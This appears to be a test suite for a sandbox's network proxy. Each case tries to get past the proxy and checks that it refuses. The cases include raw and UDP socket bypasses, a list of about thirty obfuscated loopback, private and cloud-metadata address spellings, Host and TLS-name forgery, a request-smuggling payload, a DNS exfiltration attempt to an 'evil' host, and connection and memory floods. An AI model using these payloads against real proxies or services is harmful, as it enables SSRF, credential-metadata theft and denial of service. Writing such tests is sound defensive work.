import { createServer } from "node:net";
import { networkInterfaces } from "node:os";
import { PROXY_PORT } from "../../src/sandbox/network/proxy-port.ts";
import { type Attack, shell, verdict } from "./attack.ts";
import type { World } from "./world.ts";

/** Names that the attacks' own resolver answers; every other name is unknown. */
const NAMES: Readonly<Record<string, readonly string[]>> = {
  "local.test": ["127.0.0.1"],
  "private.test": ["10.0.0.1"],
  "ula.test": ["fd00::1"],
  "mapped.test": ["::ffff:127.0.0.1"],
  "mixed.test": ["93.184.216.34", "127.0.0.1"],
  "metadata.test": ["169.254.169.254"],
};

const asked: string[] = [];

function open(world: World, allow: readonly string[]) {
  const resolve = async (name: string) => {
    asked.push(name);
    return NAMES[name] ?? [];
  };
  return world.open({ network: { allow } }, { network: { resolve } });
}

/** Spellings of 127.0.0.1 and of other addresses that are not public. */
const SPELLINGS = [
  "127.0.0.1", "2130706433", "0x7f.1", "0177.0.0.1", "127.1", "127。0。0。1", "0", "localhost", "localhost.",
  "[::1]", "[::]", "[::ffff:7f00:1]", "[::7f00:1]", "[64:ff9b::7f00:1]", "[64:ff9b:1::7f00:1]",
  "[2002:7f00:1::]", "[::ffff:0:7f00:1]", "[2001:0:0:0:0:0:80ff:fffe]", "[fe80::5efe:7f00:1]",
  "169.254.169.254", "[fd00:ec2::254]", "168.63.129.16", "100.100.100.200", "10.0.0.1", "192.168.0.1",
  "172.16.0.1", "100.64.0.1", "224.0.0.1", "255.255.255.255", "[ff02::1]", "[fc00::1]", "[fe80::1]",
]; // biome-ignore format: many

/** Attacks on the only way out. */
export const NETWORK_ATTACKS: readonly Attack[] = [
  {
    id: "net-10",
    input: "going round the proxy: without its variables, by another port, by UDP, by raw sockets",
    async attempt(world) {
      const sandbox = await open(world, ["*"]);
      const before = world.connections;
      const program = `
import socket
def attempt(name, action):
    try: action(); print("REACHED", name)
    except OSError as error: print(name, error)
def tcp(host, port): s = socket.create_connection((host, port), 2); s.sendall(b"x"); print(s.recv(10))
attempt("loopback", lambda: tcp("127.0.0.1", ${world.port}))
attempt("internet", lambda: tcp("93.184.216.34", 80))
attempt("dns", lambda: print(socket.getaddrinfo("example.org", 80)))
def udp(host): s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b"x", (host, 53)); s.recv(1)
attempt("udp", lambda: udp("8.8.8.8"))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("netfilter", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12))`;
      const { output } = await sandbox.exec({
        argv: ["env", "-u", "HTTP_PROXY", "-u", "http_proxy", "python3", "-c", program],
      });
      return verdict(!output.includes("REACHED") && world.connections === before, output);
    },
  },
  {
    id: "net-11",
    input: "a port that the list does not open, by CONNECT and by plain HTTP",
    async attempt(world) {
      const sandbox = await open(world, ["allowed.test:443"]);
      const { output, network } = await sandbox.exec({
        argv: [
          "bash",
          "-c",
          "curl -sS -p http://allowed.test:22/; curl -sS http://allowed.test:8080/",
        ],
      });
      const refused = network?.length === 2 && network.every(({ allowed }) => !allowed);
      const readable =
        output.includes("403") && output.includes("is not on this run's list of hosts");
      return verdict(refused && readable, [output, network]);
    },
  },
  {
    id: "net-12",
    input:
      "allowed names that lead to loopback, private and metadata addresses, alone or among others",
    async attempt(world) {
      const sandbox = await open(world, ["*.test:*"]);
      const before = world.connections;
      const lines = Object.keys(NAMES).map((name) => `curl -s http://${name}:${world.port}/`);
      const { output, network } = await sandbox.exec({ argv: ["bash", "-c", lines.join(";")] });
      const all = network?.length === lines.length && network.every(({ allowed }) => !allowed);
      return verdict(all && world.connections === before, [output, network]);
    },
  },
  {
    id: "net-14",
    input: `every spelling of an address that is not public (${SPELLINGS.length} of them)`,
    async attempt(world) {
      const sandbox = await open(world, ["*:*"]);
      const before = world.connections;
      const script = `
import socket
for host in ${JSON.stringify(SPELLINGS)}:
    for request in ("CONNECT %s:%d HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n", "GET http://%s:%d/ HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n"):
        s = socket.create_connection(("127.0.0.1", ${PROXY_PORT}), 5); s.settimeout(5)
        s.sendall((request % (host, ${world.port}, host)).encode())
        print(host, s.recv(400).decode("latin1").split("\\r\\n")[0])`;
      const { output } = await sandbox.exec({ argv: ["python3", "-c", script] });
      const answers = output.trim().split("\n");
      const refused = answers.every((line) => / HTTP\/1\.1 (403|400|421) /.test(line));
      const complete = answers.length === 2 * SPELLINGS.length;
      return verdict(refused && complete && world.connections === before, output);
    },
  },
  {
    id: "net-15",
    input: "the addresses of this machine's own interfaces",
    async attempt(world) {
      const sandbox = await open(world, ["*:*"]);
      const own = Object.values(networkInterfaces()).flatMap((each) => each ?? []);
      const hosts = own.map(({ address, family }) =>
        family === "IPv6" ? `[${address}]` : address,
      );
      const lines = hosts.map(
        (host) => `curl -sg --noproxy '' http://${host.replace(/%\w+/, "")}:${world.port}/; echo`,
      );
      const { output, network } = await sandbox.exec({ argv: ["bash", "-c", lines.join(";")] });
      const held = network?.length === hosts.length && network.every(({ allowed }) => !allowed);
      return verdict(held, [output, network]);
    },
  },
  {
    id: "net-16",
    input: "a Host header, and a TLS server name, other than the one that was asked for",
    async attempt(world) {
      // A server that waits for the client to speak first, as TLS servers do.
      let heard = "";
      const server = createServer((socket) => {
        socket.on("error", () => {});
        socket.on("data", (data) => {
          heard += data.toString("latin1");
        });
      });
      await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
      const address = server.address();
      const port = typeof address === "object" ? address?.port : 0;
      const sandbox = await open(world, [`local.test:${port}`, `127.0.0.1:${port}`]);
      const host = await sandbox.exec({
        argv: ["curl", "-s", "-H", "Host: other.test", `http://local.test:${port}/`],
      });
      const script = `
import socket, ssl
s = socket.create_connection(("127.0.0.1", ${PROXY_PORT}), 5)
s.sendall(b"CONNECT local.test:${port} HTTP/1.1\\r\\nHost: local.test\\r\\n\\r\\n")
print(s.recv(100))
context = ssl.create_default_context()
try: context.wrap_socket(s, server_hostname="other.test"); print("REACHED")
except OSError as error: print(error)`;
      const name = await sandbox.exec({ argv: ["python3", "-c", script] });
      const reason = [...(host.network ?? []), ...(name.network ?? [])]
        .filter(({ allowed }) => !allowed)
        .map(({ reason: why }) => why)
        .join("; ");
      const held =
        host.output.includes("the Host header names other.test") &&
        !name.output.includes("REACHED") &&
        reason.includes("the TLS connection names other.test");
      server.close();
      // The tunnel itself was dialled; nothing that was said in it arrived.
      return verdict(held && heard === "", [host.output, name.output, reason, heard]);
    },
  },
  {
    id: "net-17",
    input: "the network of one call used by another call of the run that has none",
    async attempt(world) {
      const sandbox = await open(world, [`127.0.0.1:${world.port}`]);
      const first = sandbox.exec({ argv: ["sleep", "1"] });
      const probe = `curl -s -m 2 http://127.0.0.1:${PROXY_PORT}/; curl -s -m 2 http://127.0.0.1:${world.port}/; ls -R /run /tmp; env | grep -i proxy; cat /proc/net/unix /proc/net/tcp`;
      const second = await sandbox.exec({ argv: ["bash", "-c", probe], network: "off" });
      await first;
      const held = !/HOST SERVICE|\.proxy|0C38|PROXY=/i.test(second.output);
      return verdict(held, second.output);
    },
  },
  {
    id: "own-net-01",
    input: "telling secrets to a name server by asking for a name that is not on the list",
    async attempt(world) {
      const sandbox = await open(world, ["allowed.test"]);
      asked.length = 0;
      const output = await shell(
        sandbox,
        "curl -s http://secret.evil.test/; curl -s https://secret.evil.test/; getent hosts secret.evil.test",
      );
      return verdict(asked.length === 0, [asked, output]);
    },
  },
  {
    id: "own-net-02",
    input: "a proxy that is given nonsense: long lines, smuggled requests, half-open connections",
    async attempt(world) {
      const sandbox = await open(world, [`127.0.0.1:${world.port}`]);
      const before = world.connections;
      const script = `
import socket
for data in (b"GET / HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n", b"CONNECT x HTTP/1.1\\r\\n\\r\\n", b"CONNECT :80 HTTP/1.1\\r\\n\\r\\n",
             b"A" * 200000, b"GET http://[::1 HTTP/1.1\\r\\n\\r\\n", b"GET ftp://a/ HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n", b"\\x16\\x03\\x01\\x00\\x05hello",
             b"POST http://no.test/ HTTP/1.1\\r\\nHost: no.test\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://127.0.0.1:${world.port}/ HTTP/1.1\\r\\n\\r\\n"):
    s = socket.create_connection(("127.0.0.1", ${PROXY_PORT}), 5); s.settimeout(3)
    try: s.sendall(data); print(s.recv(60))
    except OSError as error: print(error)
kept = [socket.create_connection(("127.0.0.1", ${PROXY_PORT}), 5) for _ in range(40)]
import urllib.request
print("STILL", urllib.request.urlopen("http://127.0.0.1:${world.port}/", timeout=5) if False else "up")`;
      const { output } = await sandbox.exec({ argv: ["python3", "-c", script] });
      return verdict(output.includes("STILL up") && world.connections === before, output);
    },
  },
  {
    id: "own-net-03",
    input: "a flood of refused requests to hosts with names of 7 KB, which all are recorded",
    async attempt(world) {
      const sandbox = await open(world, ["allowed.test"]);
      const program = `
import os, socket, time
end = time.time() + 4
def work(worker):
    count = 0
    while time.time() < end:
        host = ("h%d-%d." % (worker, count) + "a." * 3700)[:7400] + "x"
        count += 1
        try:
            s = socket.create_connection(("127.0.0.1", ${PROXY_PORT})); s.settimeout(5)
            s.sendall(("GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (host, host)).encode())
            s.recv(65536); s.close()
        except OSError: pass
    print(count, flush=True)
for worker in range(4):
    if os.fork() == 0: work(worker); os._exit(0)
for worker in range(4): os.wait()`;
      const before = process.memoryUsage.rss();
      const { network = [], output } = await sandbox.exec({ argv: ["python3", "-c", program] });
      const grown = process.memoryUsage.rss() - before;
      const recorded =
        JSON.stringify(network).length + JSON.stringify(sandbox.takeRequests?.()).length;
      const asked = (output.match(/\d+/g) ?? []).reduce((sum, each) => sum + Number(each), 0);
      const held =
        asked > 100 && network.length <= 2001 && recorded < 4_000_000 && grown < 200 * 2 ** 20;
      return verdict(held, { asked, kept: network.length, recorded, grown });
    },
  },
];
